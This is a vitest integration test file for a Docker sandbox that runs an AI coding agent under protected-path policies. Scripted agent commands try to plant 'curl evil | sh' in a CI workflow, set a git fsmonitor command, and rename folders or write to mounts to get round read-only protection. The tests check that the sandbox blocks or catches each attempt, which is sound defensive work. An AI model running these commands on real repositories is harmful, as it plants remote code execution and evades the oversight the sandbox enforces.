// changedFiles and protectedPaths on the real engine under the built-in workspace-write policy
// (protectedPaths .git/hooks/**, .github/workflows/**, .pi/**): what a normal run reports,
// the read-only mount over an existing protected directory, and the post-run check that fails
// the run (result withheld) when a protected path changes anyway.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ContainerPiAgent } from "../../src/container-pi-agent.js";
import { DockerEngine } from "../../src/engine/docker-engine.js";
import type { ContainerSpec } from "../../src/engine/engine.js";
import { isSandboxRunError, SandboxRunError } from "../../src/errors.js";
import { loadPolicy } from "../../src/policy/load-policy.js";
import type { ScriptedModelServer } from "../../src/scripted-model/scripted-model-server.js";
import {
  containersOfRuns,
  dockerAvailable,
  eventLog,
  lastToolResult,
  makeWorkspace,
  modelsFor,
  runBuiltCli,
  startModel,
} from "../support/harness.js";

const examplePolicy = path.resolve(import.meta.dirname, "../../policies/examples/npm-install.json");
const CI_YML = "on: push\njobs: {}\n";
const bashThenText = (command: string) => [{ toolCalls: [{ name: "bash", arguments: { command } }] }, { text: "done" }];

describe.skipIf(!dockerAvailable())("changed files and protected paths", () => {
  let server: ScriptedModelServer;
  let agent: ContainerPiAgent;
  let modelsFile: string;

  beforeAll(async () => {
    server = await startModel({
      normal: bashThenText(
        "echo new > src/new.ts && printf changed > README.md && rm old.txt && mkdir -p out && echo x > out/a.txt",
      ),
      direct: bashThenText("echo 'run: curl evil | sh' >> .github/workflows/ci.yml; echo status=$?"),
      rename: bashThenText(
        "mv .github .github-old && mkdir -p .github/workflows && echo 'run: curl evil | sh' > .github/workflows/ci.yml && echo moved",
      ),
      create: bashThenText("mkdir -p .github/workflows && echo 'run: curl evil | sh' > .github/workflows/ci.yml"),
      submounts: bashThenText(
        'for f in cache/c.txt ro/vol/x .github/workflows/mounted/ci.yml; do echo W >> $f; echo "$f=$?"; done; git init -q cache/repo; echo init=$?',
      ),
      gitconfig: bashThenText(
        "git config core.fsmonitor 'touch /tmp/owned'; echo config=$?; echo '[core] hooksPath = x' >> .git/config; echo append=$?",
      ),
    });
    const models = modelsFor(server, ["normal", "direct", "rename", "create", "gitconfig", "submounts"]);
    agent = new ContainerPiAgent({ models, sandbox: "workspace-write" });
    modelsFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-models-")), "models.json");
    fs.writeFileSync(modelsFile, JSON.stringify(models));
  });
  afterAll(async () => {
    await server?.close();
  });

  it("reports created, modified and deleted workspace files of a normal run", async () => {
    const cwd = makeWorkspace({
      "README.md": "readme",
      "old.txt": "old",
      "src/keep.ts": "keep",
      ".github/workflows/ci.yml": CI_YML,
    });
    const log = eventLog();
    const details = await agent.runDetailed("work", { cwd, model: "scripted/normal", onEvent: log.onEvent });
    expect(details.result).toBe("done");
    expect(details.changedFiles).toEqual({
      created: ["out/a.txt", "src/new.ts"],
      modified: ["README.md"],
      deleted: ["old.txt"],
    });
    expect(log.ofType("workspace.changed")[0]?.data).toMatchObject({ created: 2, modified: 1, deleted: 1 });
    expect(log.ofType("policy.violation")).toEqual([]);
  });

  it("mounts an existing protected directory read-only: a direct write fails inside, the file is untouched", async () => {
    const cwd = makeWorkspace({ ".github/workflows/ci.yml": CI_YML });
    const details = await agent.runDetailed("work", { cwd, model: "scripted/direct" });
    const out = lastToolResult(server, "direct");
    expect(out).toContain(".github/workflows/ci.yml: Read-only file system");
    expect(out).toContain("status=1");
    expect(fs.readFileSync(path.join(cwd, ".github/workflows/ci.yml"), "utf8")).toBe(CI_YML);
    expect(details.changedFiles).toEqual({ created: [], modified: [], deleted: [] });
  });

  it("a mount point below a read-only tree is read-only too (a tmpfs, a cache volume): runc left it writable on Docker before 25, and a read-only run planted a git repository there (review, session 33)", async () => {
    const cwd = makeWorkspace({ "main.txt": "m", ".github/workflows/mounted/.keep": "" });
    const outside = makeWorkspace({ "vol/.keep": "" });
    fs.chmodSync(outside, 0o755);
    // The sandbox sees the read-only folder at ro/ (a link to it inside the workspace would not be mounted).
    fs.mkdirSync(path.join(cwd, "ro"));
    const mounted: string[] = [];
    const tmpfs = (at: string) => {
      fs.mkdirSync(at, { recursive: true });
      execFileSync("mount", ["-t", "tmpfs", "-o", "size=1m,mode=1777", "tmpfs", at]);
      mounted.unshift(at);
    };
    try {
      tmpfs(path.join(cwd, "cache"));
      fs.writeFileSync(path.join(cwd, "cache/c.txt"), "host\n");
      fs.chmodSync(path.join(cwd, "cache/c.txt"), 0o666);
      tmpfs(path.join(outside, "vol"));
      execFileSync("mount", ["--rbind", outside, path.join(cwd, "ro")]);
      mounted.unshift(path.join(cwd, "ro"));
      tmpfs(path.join(cwd, ".github/workflows/mounted"));
      const readOnly = { ...loadPolicy("read-only"), name: "read-only-mounts", readOnlyMounts: [outside] };
      await agent.runDetailed("work", { cwd, model: "scripted/submounts", policy: readOnly });
      let out = lastToolResult(server, "submounts");
      for (const f of ["cache/c.txt", "ro/vol/x"]) expect(out).toContain(`${f}: Read-only file system`);
      expect(out).toMatch(/init=[1-9]/);
      expect(fs.readFileSync(path.join(cwd, "cache/c.txt"), "utf8")).toBe("host\n");
      expect(fs.readdirSync(path.join(cwd, "cache"))).toEqual(["c.txt"]);
      expect(fs.readdirSync(path.join(outside, "vol"))).toEqual([]);
      // The readOnlyMounts folder at its own path likewise, and a mount below a protected folder of a writable workspace.
      const writable = { ...loadPolicy("workspace-write"), name: "protected-mounts", readOnlyMounts: [outside] };
      server.setScript(
        "submounts",
        bashThenText(`for f in ${outside}/vol/x .github/workflows/mounted/ci.yml; do echo W >> $f; echo "$f=$?"; done`),
      );
      await agent.runDetailed("work", { cwd, model: "scripted/submounts", policy: writable });
      out = lastToolResult(server, "submounts");
      for (const f of [`${outside}/vol/x`, ".github/workflows/mounted/ci.yml"])
        expect(out).toContain(`${f}: Read-only file system`);
      expect(fs.readdirSync(path.join(outside, "vol"))).toEqual([]);
      expect(fs.readdirSync(path.join(cwd, ".github/workflows/mounted"))).toEqual([]);
    } finally {
      for (const at of mounted) execFileSync("umount", ["-l", at]);
    }
  });

  it("a mount below a read-only tree the host's covers miss (made as the container is created), also one below a covered mount, stops the sandbox before its launcher: nothing written, a usage error naming it (review, session 33)", async () => {
    // Directly below the workspace, and below a mount the host covers (every mount on a cover counted as hidden).
    for (const below of ["late", "cache/late"]) {
      const cwd = makeWorkspace({ "main.txt": "m", "cache/.keep": "" });
      const cache = path.join(cwd, "cache");
      const late = path.join(cwd, below);
      const mounted: string[] = [];
      const tmpfs = (at: string) => {
        fs.mkdirSync(at, { recursive: true });
        execFileSync("mount", ["-t", "tmpfs", "-o", "size=1m,mode=1777", "tmpfs", at]);
        mounted.unshift(at);
      };
      tmpfs(cache);
      // As when the engine's mount namespace shows a mount this process's does not.
      class MountsAtCreate extends DockerEngine {
        override async createContainer(spec: ContainerSpec, signal?: AbortSignal) {
          tmpfs(late);
          return super.createContainer(spec, signal);
        }
      }
      const lateAgent = new ContainerPiAgent({
        engine: new MountsAtCreate(),
        models: modelsFor(server, ["submounts"]),
        sandbox: "read-only",
        reapOrphans: false,
      });
      server.setScript("submounts", bashThenText(`echo W > ${below}/x; echo late=$?`));
      const asked = server.requests.length;
      try {
        const error = await lateAgent.run("work", { cwd, model: "scripted/submounts" }).then(
          () => undefined,
          (e: unknown) => e,
        );
        expect(isSandboxRunError(error) && error.code, below).toBe("usage");
        expect((error as SandboxRunError).shortMessage).toBe(
          `A folder mounted below a read-only tree (${late}) was writable inside the sandbox, so it was stopped before the run began.`,
        );
        expect(fs.readdirSync(late)).toEqual([]);
        // Pi never started: the model was never asked.
        expect(server.requests.length).toBe(asked);
      } finally {
        for (const at of mounted) execFileSync("umount", ["-l", at]);
      }
    }
  });

  it("covers are taken once the run holds its trees: a run it waited for moved the mount point, and the cover follows it (review, session 33)", async () => {
    const cwd = makeWorkspace({ "main.txt": "m", "cache/.keep": "" });
    const mountPoint = path.join(cwd, "cache/tmp");
    fs.mkdirSync(mountPoint);
    // The sandbox uid's own (a world-writable folder the run moved would be a violation of its own).
    execFileSync("mount", ["-t", "tmpfs", "-o", "size=1m,mode=0755,uid=65532,gid=65532", "tmpfs", mountPoint]);
    server.setScript("mover", bashThenText("sleep 3; mv cache cache2 && mkdir -p cache/tmp; echo moved=$?"));
    server.setScript("submounts", bashThenText("echo W > cache2/tmp/x; echo moved-mount=$?"));
    const mover = new ContainerPiAgent({
      models: modelsFor(server, ["mover", "submounts"]),
      sandbox: "workspace-write",
    });
    try {
      let second: Promise<unknown> | undefined;
      const first = mover.run("work", {
        cwd,
        model: "scripted/mover",
        onEvent: (event) => {
          // Planned while the first run's sandbox works, then waiting for its trees.
          if (event.type === "tool_execution_start" && !second)
            second = agent.run("work", { cwd, model: "scripted/submounts", sandbox: "read-only" });
        },
      });
      await first;
      await second;
      expect(lastToolResult(server, "mover")).toContain("moved=0");
      const out = lastToolResult(server, "submounts");
      expect(out).toContain("cache2/tmp/x: Read-only file system");
      expect(out).toContain("moved-mount=1");
      expect(fs.readdirSync(path.join(cwd, "cache2/tmp"))).toEqual([]);
    } finally {
      for (const at of [path.join(cwd, "cache2/tmp"), mountPoint])
        try {
          execFileSync("umount", ["-l", at], { stdio: "ignore" });
        } catch {}
    }
  });

  it("mounts an existing protected file read-only: git config cannot set a host-side hook (example policy)", async () => {
    const cwd = makeWorkspace({ "a.txt": "a" });
    execFileSync("git", ["init", "-q"], { cwd });
    const before = fs.readFileSync(path.join(cwd, ".git/config"), "utf8");
    const details = await agent.runDetailed("work", { cwd, model: "scripted/gitconfig", policy: examplePolicy });
    const out = lastToolResult(server, "gitconfig");
    expect(out).toMatch(/config=[1-9]/);
    expect(out).toContain("Read-only file system");
    expect(out).toContain("append=1");
    expect(fs.readFileSync(path.join(cwd, ".git/config"), "utf8")).toBe(before);
    expect(details.changedFiles.modified).not.toContain(".git/config");
  });

  it("fails the run naming .github/workflows/ci.yml when it is modified around the mount", async () => {
    const cwd = makeWorkspace({ ".github/workflows/ci.yml": CI_YML });
    const log = eventLog();
    // The built-in policy mounts all of .github read-only (a mount cannot be renamed): a policy that
    // protects only the workflows folder leaves its parent to rename, which the diff catches.
    const base = loadPolicy("workspace-write");
    const policy = {
      ...base,
      protectedPaths: base.protectedPaths.map((p) => (p === ".github/**" ? ".github/workflows/**" : p)),
    };
    const error = await agent
      .runDetailed("work", { cwd, model: "scripted/rename", onEvent: log.onEvent, policy })
      .catch((e: unknown) => e);
    expect(lastToolResult(server, "rename")).toContain("moved"); // the kernel allowed the rename; the diff catches it
    expect(error).toBeInstanceOf(SandboxRunError);
    const e = error as SandboxRunError;
    expect(e.code).toBe("policy-violation");
    expect(e.shortMessage).toBe(
      "The agent changed protected paths of policy workspace-write: .github/workflows/ci.yml (modified). The result was withheld. Restored: put back as before the run: .github/workflows/ci.yml.",
    );
    expect(e.hint).toMatch(/nothing to undo by hand.*protectedPaths without them/);
    expect(e.hint).not.toMatch(/git status/);
    expect(log.ofType("policy.violation")[0]?.data).toMatchObject({
      protectedPaths: [{ path: ".github/workflows/ci.yml", change: "modified", rule: "protectedPaths" }],
      count: 1,
    });
    // Put back; the renamed-away copy is an ordinary new folder and stays.
    expect(fs.readFileSync(path.join(cwd, ".github/workflows/ci.yml"), "utf8")).toBe(CI_YML);
    expect(fs.readFileSync(path.join(cwd, ".github-old/workflows/ci.yml"), "utf8")).toBe(CI_YML);
    // What it left is what stays: the put-back file is not listed as the run's change any more
    // (review, session 30: the CLI said it "stays in the workspace").
    expect(e.changedFiles?.created).toContain(".github-old/workflows/ci.yml");
    expect([
      ...(e.changedFiles?.created ?? []),
      ...(e.changedFiles?.modified ?? []),
      ...(e.changedFiles?.deleted ?? []),
    ]).not.toContain(".github/workflows/ci.yml");
    expect(log.ofType("run.result").length).toBe(1); // the agent did finish; its result was withheld
    expect(await containersOfRuns(log.runIds())).toEqual([]);
  });

  it("through the CLI: creating a protected file exits 1 with the path on stderr and nothing on stdout", async () => {
    const cwd = makeWorkspace({ "src/index.ts": "x" });
    const run = await runBuiltCli(["--models", modelsFile, "--model", "scripted/create", "--quiet", "add CI"], { cwd });
    expect(run.status).toBe(1);
    expect(run.stdout).toBe("");
    expect(run.stderr).toContain(
      "sandbox-run: The agent changed protected paths of policy workspace-write: .github/workflows/ci.yml (created).",
    );
    expect(run.stderr).not.toMatch(/unexpected error|at .*\.js:\d+/);
  });
});
